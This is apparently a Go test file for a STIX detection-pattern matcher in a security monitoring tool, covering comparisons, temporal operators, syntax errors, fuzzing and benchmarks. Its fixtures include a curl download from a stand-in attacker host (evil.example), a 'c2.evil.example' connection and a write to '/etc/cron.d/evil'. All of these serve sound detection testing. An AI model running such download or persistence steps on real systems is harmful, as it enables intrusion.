package stix

import (
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/omega-mesh/omega/swarm/event"
)

const start = int64(1764000000e9)

func exec(at int, exe, args string) *event.Event {
	e := &event.Event{Class: event.ClassProcess, Activity: event.ActivityExec, Time: start + int64(at)*int64(time.Second)}
	e.Process.Key, e.Process.Exe, e.Process.Args = event.ProcessKey{PID: 7, Start: 1}, exe, strings.ReplaceAll(args, " ", "\x00")
	e.Process.ParentExe = "/usr/bin/bash"
	return e
}

func flow(at int, remote string, inbound bool) *event.Event {
	e := &event.Event{Class: event.ClassNetwork, Activity: event.ActivityConnect, Time: start + int64(at)*int64(time.Second)}
	e.Process.Key, e.Process.Exe = event.ProcessKey{PID: 7, Start: 1}, "/usr/bin/curl"
	e.Network = event.Network{Protocol: 6, Local: netip.MustParseAddrPort("10.0.0.5:40000"), Remote: netip.MustParseAddrPort(remote), Inbound: inbound, Name: "c2.evil.example"}
	return e
}

func compileText(t testing.TB, text string) *Matcher {
	t.Helper()
	n, err := Parse(text)
	if err != nil {
		t.Fatalf("%s: %v", text, err)
	}
	m, err := Compile(n)
	if err != nil {
		t.Fatalf("%s: %v", text, err)
	}
	return m
}

func TestComparisons(t *testing.T) {
	file := &event.Event{Class: event.ClassFile, Activity: event.ActivityFileWrite, Time: start}
	file.File.Path = "/etc/cron.d/evil"
	logon := &event.Event{Class: event.ClassAuthentication, Time: start}
	logon.Logon = event.Logon{User: "root", Remote: netip.MustParseAddr("203.0.113.9")}
	answer := &event.Event{Class: event.ClassDNS, Activity: event.ActivityDNSAnswer, Time: start}
	answer.DNS = event.DNS{Name: "a.evil.example", Answers: "b.example\x00203.0.113.9"}
	curl := exec(0, "/usr/bin/curl", "curl -o /tmp/x http://evil.example/x")
	for _, c := range []struct {
		pattern string
		e       *event.Event
		want    bool
	}{
		{"[process:name = 'curl']", curl, true}, {"[process:name != 'curl']", curl, false}, {"[process:name NOT = 'wget']", curl, true},
		{"[process:command_line LIKE '%http://evil.example/_']", curl, true}, {"[process:command_line LIKE 'http%']", curl, false},
		{"[process:command_line MATCHES '-o /tmp/[a-z]+ ']", curl, true}, {"[process:command_line NOT MATCHES '-o']", curl, false},
		{"[process:arguments[*] IN ('x', '-o')]", curl, true}, {"[process:arguments[1] = '-o']", curl, true},
		{"[process:pid = 7 AND process:parent_ref.name = 'bash']", curl, true}, {"[process:pid > 7]", curl, false}, {"[process:pid <= 7 AND process:pid >= 7 AND process:pid < 8]", curl, true},
		{"[process:image_ref.parent_directory_ref.path = '/usr/bin']", curl, true}, {"[file:name = 'curl']", curl, true}, {"[url:value LIKE '%evil%']", curl, true},
		{"[EXISTS process:cwd]", curl, false}, {"[NOT EXISTS process:cwd]", curl, true}, {"[process:creator_user_ref.user_id = '0']", curl, true},
		{"[process:name = 'a' OR (process:name = 'curl' AND process:command_line LIKE '%evil%')]", curl, true},
		{"[file:parent_directory_ref.path = '/etc/cron.d' AND file:name = 'evil']", file, true}, {"[directory:path LIKE '/etc/%']", file, true}, {"[file:name = 'other']", file, false},
		{"[network-traffic:dst_port = 443 AND network-traffic:protocols[*] = 'tcp']", flow(0, "203.0.113.9:443", false), true},
		{"[network-traffic:dst_ref.value = '203.0.113.9']", flow(0, "203.0.113.9:443", true), false}, {"[network-traffic:src_ref.value ISSUBSET '203.0.113.0/24']", flow(0, "203.0.113.9:443", true), true},
		{"[ipv4-addr:value NOT ISSUBSET '10.0.0.0/8']", flow(0, "203.0.113.9:443", false), true}, {"[ipv4-addr:value = '203.0.113.9/32']", logon, true},
		{"[ipv4-addr:value ISSUPERSET '203.0.113.9']", logon, true}, {"[ipv4-addr:value ISSUPERSET '203.0.113.0/24']", logon, false},
		{"[ipv4-addr:value = '203.0.113.9' AND process:name = 'curl']", flow(0, "203.0.113.9:443", false), true},
		{"[domain-name:value LIKE '%.EVIL.example']", answer, true}, {"[domain-name:value = 'A.evil.Example']", answer, true}, {"[ipv4-addr:value IN ('198.51.100.1', '203.0.113.9')]", answer, true},
		{"[user-account:user_id = 'root']", logon, true}, {"[process:name = 'curl']", logon, false},
	} {
		var o Observer
		o.Take(c.e)
		if got := compileText(t, c.pattern).Observe(&o); got != c.want {
			t.Errorf("%s: %v", c.pattern, got)
		}
	}
}

func TestObservations(t *testing.T) {
	a, b := "[process:name = 'a']", "[process:name = 'b']"
	for _, c := range []struct {
		pattern string
		events  string // a letter an event, a second apart; . is a second
		at      int    // which event completes it, from 1; 0 none
	}{
		{a + " AND " + b, "ab", 2}, {a + " AND " + b, "ba", 2}, {a + " AND " + a, "a", 0}, {a + " AND " + a, "aa", 2}, {a + " OR " + b, "b", 1},
		{a + " FOLLOWEDBY " + b, "ba", 0}, {a + " FOLLOWEDBY " + b, "ab", 2}, {a + " FOLLOWEDBY " + b + " FOLLOWEDBY " + a, "aba", 3},
		{"(" + a + " FOLLOWEDBY " + b + ") WITHIN 2 SECONDS", "a....b", 0}, {"(" + a + " FOLLOWEDBY " + b + ") WITHIN 2 SECONDS", "a...ab", 6},
		{"(" + a + " AND " + b + ") WITHIN 1.5 SECONDS", "a.b", 0}, {"(" + a + " AND " + b + ") WITHIN 1.5 SECONDS", "a.ba", 4},
		{a + " REPEATS 3 TIMES", "aba.a", 5}, {a + " REPEATS 3 TIMES WITHIN 2 SECONDS", "a.a.a", 0}, {a + " REPEATS 3 TIMES WITHIN 2 SECONDS", "a.aaa", 5},
		{"(" + a + " AND " + b + ") REPEATS 2 TIMES", "abba", 4}, {"(" + a + " AND " + b + ") REPEATS 2 TIMES", "abb", 0},
		{a + " START t'2025-11-24T16:00:02Z' STOP t'2025-11-24T16:00:03Z'", "a", 0}, {a + " START t'2025-11-24T16:00:02Z' STOP t'2025-11-24T16:00:03Z'", "aaaa", 3},
		{"(" + a + " OR " + b + ") FOLLOWEDBY [process:name = 'c']", "bc", 2}, {a + " FOLLOWEDBY " + b + " AND [process:name = 'c']", "acb", 3},
		{a + " REPEATS 2 TIMES OR " + b, "b", 1},
	} {
		m, o := compileText(t, c.pattern), Observer{}
		got := 0
		for i, r := range c.events {
			if r == '.' {
				continue
			}
			o.Take(exec(i, "/bin/"+string(r), "x"))
			if m.Observe(&o) && got == 0 {
				got = i + 1
			}
		}
		if got != c.at {
			t.Errorf("%s over %s: %d, want %d", c.pattern, c.events, got, c.at)
		}
	}
}

// A story that is told is forgotten; what is kept has a bound, and a day.
func TestMemoryOfAPattern(t *testing.T) {
	m, o := compileText(t, "[process:name = 'a'] FOLLOWEDBY [process:name = 'b']"), Observer{}
	see := func(at int, name string) bool {
		o.Take(exec(at, "/bin/"+name, "x"))
		return m.Observe(&o)
	}
	for i := range 10_000 {
		see(i, "a")
	}
	if n := len(m.root.parts[0].kept); n > maxKept {
		t.Errorf("%d kept", n)
	}
	if !see(10_001, "b") || see(10_002, "b") {
		t.Error("one story is told twice, or not at all")
	}
	see(20_000, "a")
	fork := m.Fork()
	o.Take(exec(20_001, "/bin/b", "x"))
	if fork.Observe(&o) {
		t.Error("a fork remembers")
	}
	if see(20_000+25*3600, "a"); len(m.root.parts[0].kept) != 1 {
		t.Error("yesterday's is kept")
	}
}

func TestSyntax(t *testing.T) {
	for _, bad := range []string{"", "[", "[]", "file:name = 'x'", "[file:name]", "[file:name = ]", "[file:name = 'x'", "[file:name = 'x']]", "[file:name = 'x\\y']", "[file:name = x]",
		"[file = 'x']", "[file:name 'x']", "[file:name IN 'x']", "[file:name IN ()]", "[file:name LIKE 3]", "[a:b = 'x'] WITHIN SECONDS", "[a:b = 'x'] WITHIN 0 SECONDS", "[a:b = 'x'] REPEATS 1.5 TIMES",
		"[a:b = 'x'] START t'2020-01-01T00:00:00Z'", "[a:b = 'x'] START t'2021-01-01T00:00:00Z' STOP t'2020-01-01T00:00:00Z'", "[a:b = t'yesterday']", "[a:b = h'0']", "[a:b = b'*']", "[a:b['x'] = 1]",
		"[a:b = 'x' /* ]", "[a:b > true]", "[NOT a:b = 'x']", "[a:b = 'x'] AND", strings.Repeat("(", 40) + "[a:b = 1]" + strings.Repeat(")", 40),
		"[" + strings.Repeat("(", 40) + "a:b = 1" + strings.Repeat(")", 40) + "]", strings.Repeat(" ", MaxPattern) + "[a:b = 1]", "[a:b IN (" + strings.Repeat("1,", MaxTerms) + "1)]"} {
		if _, err := Parse(bad); !errors.Is(err, ErrSyntax) {
			t.Errorf("%.60s: %v", bad, err)
		}
	}
	for _, good := range []string{"[file:hashes.'SHA-256' = 'a']", "[x-own:ext.'a-b'.list[*].c[3] = true]", "[a:b = t'2020-01-01T00:00:00.5Z' AND a:c = h'00ff' AND a:d = b'AAE=']", "[a:b = 'it\\'s \\\\']",
		"/* a */ [a:b = -1.5] // b\n OR [a:b = +2]", "[a:b not in ('x') and a:c <> 1]", "[a:b = 'x'] REPEATS 5 TIMES WITHIN 1.5 SECONDS START t'2020-01-01T00:00:00Z' STOP t'2021-01-01T00:00:00Z'"} {
		if _, err := Parse(good); err != nil {
			t.Errorf("%s: %v", good, err)
		}
	}
}

func TestNotApplicable(t *testing.T) {
	for _, p := range []string{"[email-message:subject = 'x']", "[file:hashes.MD5 = 'x' AND file:name = 'y']", "[process:name MATCHES '(?<=x)y']", "[process:pid LIKE 'x']", "[process:pid = 'x']", "[process:name = 3]",
		"[ipv4-addr:value LIKE '10.%']", "[ipv4-addr:value = 'here']", "[process:name ISSUBSET 'x']", "[process:name = 'x'] REPEATS 65 TIMES", "([process:name = 'x'] AND [process:name = 'y']) REPEATS 40 TIMES",
		"[process:name LIKE '" + strings.Repeat("%x", 600) + "']"} {
		n, err := Parse(p)
		if err != nil {
			t.Errorf("%s: %v", p, err)
			continue
		}
		if _, err := Compile(n); !errors.Is(err, ErrNotApplicable) {
			t.Errorf("%.80s: %v", p, err)
		}
	}
}

func FuzzPattern(f *testing.F) {
	f.Add("[file:name = 'a' AND process:pid > 3] FOLLOWEDBY ([ipv4-addr:value ISSUBSET '10.0.0.0/8'] OR [domain-name:value LIKE '%.x']) WITHIN 5 SECONDS REPEATS 2 TIMES")
	f.Add("[process:command_line MATCHES '(a|b)*c' OR EXISTS file:name] START t'2020-01-01T00:00:00Z' STOP t'2030-01-01T00:00:00Z'")
	events := []*event.Event{exec(0, "/bin/a", "a b"), flow(1, "10.0.0.1:443", false), exec(2, "/bin/c", "c")}
	f.Fuzz(func(t *testing.T, text string) {
		n, err := Parse(text)
		if err != nil {
			if !errors.Is(err, ErrSyntax) {
				t.Fatal(err)
			}
			return
		}
		m, err := Compile(n)
		if err != nil {
			if !errors.Is(err, ErrNotApplicable) {
				t.Fatal(err)
			}
			return
		}
		var o Observer
		for range 3 {
			for _, e := range events {
				o.Take(e)
				m.Observe(&o)
			}
		}
	})
}

// The two ways of matching a LIKE agree.
func TestLike(t *testing.T) {
	for _, like := range []string{"", "%", "%%", "a", "a%", "%a", "%a%", "a%a", "a%b%a", "%ab%ba%", "ab%%c"} {
		for _, s := range []string{"", "a", "aa", "aba", "abba", "xabxbax", "abc", "abxc", "ca", "b"} {
			if slow, fast := wildcard(like, s, false), inOrder(strings.Split(like, "%"), s); slow != fast {
				t.Errorf("%q LIKE %q: %v and %v", s, like, slow, fast)
			}
		}
	}
}

// BenchmarkPatterns is what a process costs with as many patterns as a set may hold, none of which match.
func BenchmarkPatterns(b *testing.B) {
	var g Group
	for i := range 1000 {
		if i%2 == 0 {
			g.Add(i, compileText(b, fmt.Sprintf("[process:command_line LIKE '%%evil-%d%%']", i)))
			continue
		}
		g.Add(i, compileText(b, fmt.Sprintf("[process:command_line MATCHES 'evil-[0-9]+%d$' AND process:name = 'x%d']", i, i)))
	}
	e := exec(0, "/usr/bin/cc1", strings.Repeat("-I/usr/include/some/path ", 20))
	b.ReportAllocs()
	for b.Loop() {
		g.Observe(e, func(int) { b.Fatal("a match") })
	}
}
